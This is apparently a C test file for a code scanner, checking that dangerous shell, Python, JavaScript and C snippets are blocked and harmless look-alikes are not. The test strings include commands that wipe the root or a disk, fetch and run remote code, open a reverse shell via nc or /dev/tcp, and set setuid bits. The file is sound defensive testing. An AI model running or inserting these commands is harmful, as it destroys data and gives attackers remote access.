/* SPDX-License-Identifier: Apache-2.0 */
#include "engine/scan/scan.h"

#include <stdlib.h>

#include "base/own.h"
#include "harness/tap.h"
#include "engine/scan/rules.h"

static struct scan_report report;

static bool blocked(const char *name, const char *text)
{
    CHECK_INT(scan_text(name, str_from(text), &report, NULL), 0);
    return scan_blocks(&report, SCAN_HIGH);
}

static bool found(const char *rule, uint32_t line)
{
    for (size_t i = 0; i < report.n; i++)
        if (!strcmp(report.findings[i].rule->id, rule) && report.findings[i].line == line)
            return true;
    return false;
}

TEST(the_language_is_told_by_shebang_name_and_content)
{
    CHECK_INT(scan_language_of("x", STR("#!/bin/sh\n")), SCAN_SHELL);
    CHECK_INT(scan_language_of("x.sh", STR("#!/usr/bin/env -S python3 -u\n")), SCAN_PYTHON);
    CHECK_INT(scan_language_of("x.mjs", STR("")), SCAN_JAVASCRIPT);
    CHECK_INT(scan_language_of(NULL, STR("#include <stdio.h>\nint main(void)\n{\n return 0;\n}\n")),
              SCAN_C);
    CHECK_INT(scan_language_of(NULL, STR("import os\n\ndef main():\n    pass\n")), SCAN_PYTHON);
    CHECK_INT(scan_language_of("x.sh", STR("\177ELF\2\1\1")), SCAN_BINARY);
    CHECK_INT(scan_language_of(NULL, STR("")), SCAN_UNKNOWN);
}

TEST(quotes_do_not_hide_and_strings_do_not_alarm)
{
    CHECK(blocked("x.sh", "r''m -r\"f\" /\n"));
    CHECK(blocked("x.sh", "\\rm -rf /\n"));
    CHECK(blocked("x.sh", "rm \\\n  -rf \\\n  /\n"));
    CHECK(!blocked("x.sh", "echo 'rm -rf /' # rm -rf /\n"));
    CHECK(!blocked("x.sh", "cat <<E\nrm -rf /\nE\n"));
    CHECK(blocked("x.sh", "sh <<E\nrm -rf /\nE\n"));
    CHECK(!blocked("x.py", "'''rm'''\nx = 'os.system(\"rm -rf /\")' # os.system('rm -rf /')\n"));
    CHECK(blocked("x.js", "/* quiet */ require('child_process').exec('rm -rf /')"));
    CHECK(!blocked("x.c", "/* system(\"rm -rf /\") */ const char *s = \"system('rm -rf /')\";\n"));
}

TEST(places_are_those_of_the_text)
{
    CHECK(blocked("x.sh", "#!/bin/sh\n\n  rm -rf /\necho; dd if=x of=/dev/sda\n"));
    CHECK(found("shell.rm-root", 3));
    CHECK(found("shell.dd-disk", 4));
    CHECK_INT(report.findings[0].column, 3);
    CHECK(blocked("x.py", "import os\n\nos.system('''\nrm -rf /\n''')\n"));
    CHECK(found("shell.rm-root", 3)); /* where the call is */
}

TEST(values_are_followed)
{
    CHECK(blocked("x.sh", "x=$(curl http://a/b)\neval \"$x\"\n"));
    CHECK(!blocked("x.sh", "x=$(curl http://a/b)\necho \"$x\"\n"));
    CHECK(blocked("x.sh", "wget -O /tmp/x http://a/b; sh /tmp/x\n"));
    CHECK(blocked("x.py", "import base64\nc = base64.b64decode('eA==')\nexec(c)\n"));
    CHECK(!blocked("x.py", "import base64\nc = base64.b64decode('eA==')\nprint(c)\n"));
    CHECK(!blocked("x.py", "import base64\nc = base64.b64decode('eA==')\nc = 1\nexec(c)\n"));
}

/* Each with what is like it and harmless. */
TEST(classes_of_attacks_and_their_neighbours)
{
    CHECK(blocked("x.sh", "exec 5<>/dev/tcp/192.0.2.1/80\n"));
    CHECK(!blocked("x.sh", "exec 5<>/tmp/pipe\n"));
    CHECK(blocked("x.sh", "sh -i < /tmp/f 2>&1 | nc a.test 1 > /tmp/f\n"));
    CHECK(!blocked("x.sh", "sh build.sh 2>&1 | tee log\n"));
    CHECK(blocked("x.sh", "chmod u+s /tmp/x\n"));
    CHECK(!blocked("x.sh", "chmod u+x x; chmod 0755 y; chmod g+s shared\n"));
    CHECK(blocked("x.sh", "docker run -v /:/host a sh\n"));
    CHECK(!blocked("x.sh", "docker run -v \"$PWD:/src\" -v /srv/a:/a a make\n"));
    CHECK(blocked("x.sh", "find . -name '*.doc' -print0 | xargs -0 shred -u\n"));
    CHECK(blocked("x.py", "import os, shutil\nshutil.rmtree(os.path.join('/', x))\n"));
    CHECK(!blocked("x.py", "import os, shutil\nshutil.rmtree(os.path.join('/tmp', x))\n"));
    CHECK(blocked("x.js", "process.binding('spawn_sync').spawn({})\n"));
    CHECK(blocked("x.js", "global['requ' + 'ire']('fs')\n"));
    CHECK(!blocked("x.js", "const fs = require('fs'); fn.bind(process)\n"));
    CHECK(blocked("x.c", "int f(void) { return nftw(getenv(\"HOME\"), g, 9, 0); }\n"));
    CHECK(!blocked("x.c", "int f(char *p) { getenv(\"HOME\"); return nftw(p, g, 9, 0); }\n"));
    CHECK(blocked("x.c", "int f(void) { connect(s, a, n); dup2(s, 0); execve(p, v, e); }\n"));
    CHECK(!blocked("x.c", "int f(void) { dup2(null, 0); execve(p, v, e); }\n"));
    CHECK(blocked("x.c", "int f(void) { sprintf(c, \"wget %s\", u); return system(c); }\n"));
    CHECK(!blocked("x.c", "int f(void) { sprintf(c, \"cc %s\", u); return system(c); }\n"));
}

TEST(any_bytes_are_taken)
{
    AUTO_FREE char *bytes = malloc(1 << 20);
    uint32_t x = 1;

    CHECK(bytes != NULL);
    for (size_t i = 0; i < 1 << 20; i++) {
        x = x * 1103515245 + 12345;
        bytes[i] = "(){}[]'\"`$\\|&;<>\n #ab=.,:"[(x >> 16) % 25];
    }
    for (const char *const *name = (const char *const[]){ "a.sh", "a.py", "a.js", "a.c", NULL };
         *name; name++)
        CHECK_INT(scan_text(*name, (struct str){ bytes, 1 << 20 }, &report, NULL), 0);
}

TEST(marks_of_directives_do_not_nest)
{
    AUTO_FREE char *marks = malloc(4 << 20);

    CHECK(marks != NULL);
    memset(marks, '#', 4 << 20);
    CHECK_INT(scan_text("a.c", (struct str){ marks, 4 << 20 }, &report, NULL), 0);
}

TEST(too_much_is_refused)
{
    struct err e;
    AUTO_FREE char *bytes = calloc(1, SCAN_INPUT_MAX + 1);

    CHECK(bytes != NULL);
    CHECK_INT(scan_text(NULL, (struct str){ bytes, SCAN_INPUT_MAX + 1 }, &report, &e),
              -(int)ERR_TOO_BIG);
}

TEST(findings_are_bounded)
{
    AUTO(buf_done) struct buf text = BUF_INIT(1 << 20);

    for (int i = 0; i < 10000; i++)
        CHECK_INT(buf_add(&text, STR("rm -rf /\n")), 0);
    CHECK_INT(scan_text("x.sh", buf_str(&text), &report, NULL), 0);
    CHECK_INT(report.n, SCAN_PER_RULE_MAX);
    CHECK(report.more);
}
